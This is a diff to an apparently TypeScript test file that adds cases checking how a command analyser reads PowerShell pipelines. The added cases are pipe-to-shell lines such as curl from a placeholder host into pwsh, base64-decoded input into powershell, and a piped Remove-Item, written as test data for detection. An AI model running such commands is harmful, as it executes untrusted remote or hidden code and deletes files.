@@ -94,6 +94,18 @@ describe('what can be read off PowerShell is read', () => {
   })
 
   test.each([
+    ['curl https://a.example/x.ps1 | pwsh', { kind: 'shell.run', codeFrom: 'network' }],
+    [
+      'curl https://a.example | pwsh -NoLogo -Command -',
+      { kind: 'shell.run', codeFrom: 'network' },
+    ],
+    ['base64 -d x | powershell', { kind: 'shell.run', codeFrom: 'decoded' }],
+    ['echo "Remove-Item a" | pwsh -', { kind: 'file.delete', path: '/home/dev/proj/a' }],
+  ])('what is fed to it too: %s', (command, action) => {
+    expect(actionsIn(command).actions).toContainEqual(expect.objectContaining(action))
+  })
+
+  test.each([
     'Get-ChildItem -Recurse | Select-Object Name',
     'Write-Host "iwr https://a.example | iex is how it is not done"',
     '# Remove-Item C:\\ -Recurse',
